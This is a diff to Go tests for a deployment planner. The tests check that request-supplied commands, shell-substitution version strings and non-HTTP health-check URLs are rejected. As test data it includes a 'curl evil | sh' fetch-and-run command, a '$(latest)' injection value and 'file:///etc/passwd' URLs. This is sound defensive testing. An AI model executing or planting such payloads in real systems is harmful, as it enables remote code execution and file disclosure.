@@ -233,12 +233,72 @@ func TestDriverFromHostOrRequest(t *testing.T) {
 		t.Fatalf("host drivers not used: %+v", p.Hosts)
 	}
 	req.Driver = exec
-	p, err = Build(req, env(hs), now)
+	allowing := env(hs)
+	allowing.AllowRequestCommands = true
+	p, err = Build(req, allowing, now)
 	if err != nil {
 		t.Fatal(err)
 	}
 	if p.Hosts["web-02"].Driver.Exec == nil {
 		t.Fatalf("request driver does not win: %+v", p.Hosts["web-02"])
+	}
+}
+
+func TestProcedures(t *testing.T) {
+	deploy := contracts.DriverSpec{Exec: &contracts.ExecDriver{Command: []string{"/opt/deploy", "{{index .Params \"channel\"}}"}}}
+	inv := env(hosts(2))
+	inv.Procedures = map[string]contracts.Procedure{
+		"deploy":   {Driver: deploy},
+		"api-only": {Driver: deploy, Apps: []string{"api"}},
+	}
+	command := &contracts.DriverSpec{Exec: &contracts.ExecDriver{Command: []string{"sh", "-c", "curl evil | sh"}}}
+	for _, tc := range []struct {
+		name      string
+		edit      func(*contracts.DeployRequest, *contracts.Environment)
+		wantField string
+		wantMsg   string
+	}{
+		{name: "request command refused", edit: func(r *contracts.DeployRequest, _ *contracts.Environment) { r.Driver = command },
+			wantField: "driver.exec.command", wantMsg: "defined: api-only, deploy"},
+		{name: "request command refused without procedures", edit: func(r *contracts.DeployRequest, e *contracts.Environment) {
+			r.Driver = command
+			e.Procedures = nil
+		}, wantField: "driver.exec.command", wantMsg: "it defines none"},
+		{name: "unknown procedure", edit: func(r *contracts.DeployRequest, _ *contracts.Environment) { r.Driver, r.Procedure = nil, "nope" },
+			wantField: "procedure", wantMsg: `unknown procedure "nope"`},
+		{name: "procedure of another app", edit: func(r *contracts.DeployRequest, _ *contracts.Environment) { r.Driver, r.Procedure = nil, "api-only" },
+			wantField: "procedure", wantMsg: `is for api, not "web"`},
+	} {
+		t.Run(tc.name, func(t *testing.T) {
+			req, e := request(contracts.PhaseSpec{Name: "all"}), inv
+			tc.edit(&req, &e)
+			_, err := Build(req, e, now)
+			fe := contracts.AsFieldErrors(err)
+			if len(fe) != 1 || fe[0].Field != tc.wantField || !strings.Contains(fe[0].Message, tc.wantMsg) {
+				t.Fatalf("Build = %v, want one problem on %s containing %q", err, tc.wantField, tc.wantMsg)
+			}
+		})
+	}
+
+	req := request(contracts.PhaseSpec{Name: "all"})
+	req.Driver, req.Procedure, req.Params = nil, "deploy", map[string]string{"channel": "stable"}
+	p, err := Build(req, inv, now)
+	if err != nil {
+		t.Fatal(err)
+	}
+	for name, h := range p.Hosts {
+		if !reflect.DeepEqual(h.Driver, deploy) {
+			t.Fatalf("host %s driver %+v, want the procedure's", name, h.Driver)
+		}
+	}
+	// A simulated driver runs no command and stays allowed.
+	req.Procedure, req.Driver = "", sim()
+	if _, err := Build(req, inv, now); err != nil {
+		t.Fatalf("sim driver refused: %v", err)
+	}
+	req.Procedure = "deploy"
+	if err := req.Validate(); !strings.Contains(fmt.Sprint(err), "procedure: cannot be combined with driver") {
+		t.Fatalf("procedure with driver: %v", err)
 	}
 }
 
@@ -253,9 +313,9 @@ func TestRejections(t *testing.T) {
 	}{
 		{"request invalid", func() contracts.DeployRequest {
 			r := request(contracts.PhaseSpec{Name: "all"})
-			r.Version = "latest"
+			r.Version = "$(latest)"
 			return r
-		}, nil, []fe{{Field: "version", Message: "semantic version"}}, true},
+		}, nil, []fe{{Field: "version", Message: "starting with a letter or digit"}}, true},
 		{"inventory of another environment", func() contracts.DeployRequest {
 			return request(contracts.PhaseSpec{Name: "all"})
 		}, func() contracts.Environment {
@@ -372,5 +432,95 @@ func TestBatchesAndMaxFailed(t *testing.T) {
 		if got := MaxFailed(tt.size, tt.total); got != tt.want {
 			t.Errorf("MaxFailed(%v, %d) = %d, want %d", tt.size, tt.total, got, tt.want)
 		}
+	}
+}
+
+func TestNonSemverVersionsPlan(t *testing.T) {
+	for _, v := range []string{"2026.11.30-3f2a9c1", "3f2a9c1e4b5d6f708192a3b4c5d6e7f8091a2b3c", "build_417+linux"} {
+		req := request(contracts.PhaseSpec{Name: "all"})
+		req.Version = v
+		p, err := Build(req, env(hosts(2)), now)
+		if err != nil || p.Version != v {
+			t.Fatalf("version %q: %+v, %v", v, p.Version, err)
+		}
+	}
+}
+
+func TestEverythingRendersUpFront(t *testing.T) {
+	withCheck := func(url string) contracts.DeployRequest {
+		req := request(contracts.PhaseSpec{Name: "canary", Hosts: []string{"web-01"}}, contracts.PhaseSpec{Name: "rest", Checks: []string{"live", "healthz"}})
+		req.Checks = map[string]contracts.CheckSpec{
+			"live":    {HTTP: &contracts.HTTPCheck{URL: "http://{{.Host.Address}}/live"}},
+			"healthz": {HTTP: &contracts.HTTPCheck{URL: url}},
+		}
+		return req
+	}
+	hs := hosts(3)
+	hs[2].Params = map[string]string{"health": "http://{{nope"}
+	for _, tc := range []struct {
+		name, url, field, msg string
+	}{
+		{"file url", "file:///etc/passwd", "checks.healthz.http.url", "must be an http:// or https:// URL"},
+		{"not a url", "not a url", "checks.healthz.http.url", "must be an http:// or https:// URL"},
+		{"missing param", "http://{{.Host.Address}}/{{index .Params \"path\"}}", "phases[1].checks[1].url", `does not render for host "web-02"`},
+		{"param renders a file url", "{{index .Host.Params \"health\"}}", "phases[1].checks[1].url", `does not render for host "web-02"`},
+	} {
+		t.Run(tc.name, func(t *testing.T) {
+			_, err := Build(withCheck(tc.url), env(hs), now)
+			fe := contracts.AsFieldErrors(err)
+			if len(fe) == 0 || fe[0].Field != tc.field || !strings.Contains(fe[0].Message, tc.msg) {
+				t.Fatalf("Build = %v, want %s: %s", err, tc.field, tc.msg)
+			}
+		})
+	}
+	// A parameter that renders to a file URL for one host.
+	hs[1].Params = map[string]string{"health": "file:///etc/passwd"}
+	hs[2].Params = map[string]string{"health": "http://10.0.0.3/healthz"}
+	_, err := Build(withCheck("{{index .Host.Params \"health\"}}"), env(hs), now)
+	if fe := contracts.AsFieldErrors(err); len(fe) != 1 || fe[0].Field != "phases[1].checks[1].url" || !strings.Contains(fe[0].Message, `"file:///etc/passwd", which is not an http:// or https:// URL`) || !strings.Contains(fe[0].Message, "web-02") {
+		t.Fatalf("Build = %v", err)
+	}
+
+	// Commands render for every host: the request's own (where allowed),
+	// a procedure's, and an inventory driver's.
+	bad := contracts.DriverSpec{Exec: &contracts.ExecDriver{Command: []string{"/opt/deploy", "{{index .Params \"channel\"}}"}, Env: map[string]string{"X": "{{.Nope}}"}}}
+	allowing := env(hosts(2))
+	allowing.AllowRequestCommands = true
+	allowing.Procedures = map[string]contracts.Procedure{"deploy": {Driver: bad}}
+	req := request(contracts.PhaseSpec{Name: "all"})
+	req.Driver = &bad
+	_, err = Build(req, allowing, now)
+	if fe := contracts.AsFieldErrors(err); len(fe) != 4 || fe[0].Field != "driver.exec.command[1]" || fe[1].Field != "driver.exec.env.X" {
+		t.Fatalf("request driver: %v", err)
+	}
+	req.Driver, req.Procedure = nil, "deploy"
+	_, err = Build(req, allowing, now)
+	if fe := contracts.AsFieldErrors(err); len(fe) != 4 || fe[0].Field != "procedure" || !strings.Contains(fe[0].Message, `no parameter "channel"`) {
+		t.Fatalf("procedure: %v", err)
+	}
+	req.Params = map[string]string{"channel": "stable"}
+	bad.Exec.Env = nil
+	allowing.Procedures["deploy"] = contracts.Procedure{Driver: bad}
+	if _, err := Build(req, allowing, now); err != nil {
+		t.Fatalf("with the param: %v", err)
+	}
+	inv := env(hosts(2))
+	inv.Hosts[0].Driver = sim()
+	inv.Hosts[1].Driver = &contracts.DriverSpec{Exec: &contracts.ExecDriver{Command: []string{"{{.Host.Params.missing}}"}}}
+	req = request(contracts.PhaseSpec{Name: "all"})
+	req.Driver = nil
+	_, err = Build(req, inv, now)
+	if fe := contracts.AsFieldErrors(err); len(fe) != 1 || fe[0].Field != "driver" || !strings.Contains(fe[0].Message, `host "web-02"`) {
+		t.Fatalf("inventory driver: %v", err)
+	}
+}
+
+func TestRenderProblemsNameTheFirstHosts(t *testing.T) {
+	req := request(contracts.PhaseSpec{Name: "all", Checks: []string{"hz"}})
+	req.Checks = map[string]contracts.CheckSpec{"hz": {HTTP: &contracts.HTTPCheck{URL: "http://{{index .Params \"nope\"}}/"}}}
+	_, err := Build(req, env(hosts(15)), now)
+	fe := contracts.AsFieldErrors(err)
+	if len(fe) != maxDriverErrors+1 || fe[maxDriverErrors].Message != "and 5 more hosts" {
+		t.Fatalf("Build = %v", err)
 	}
 }
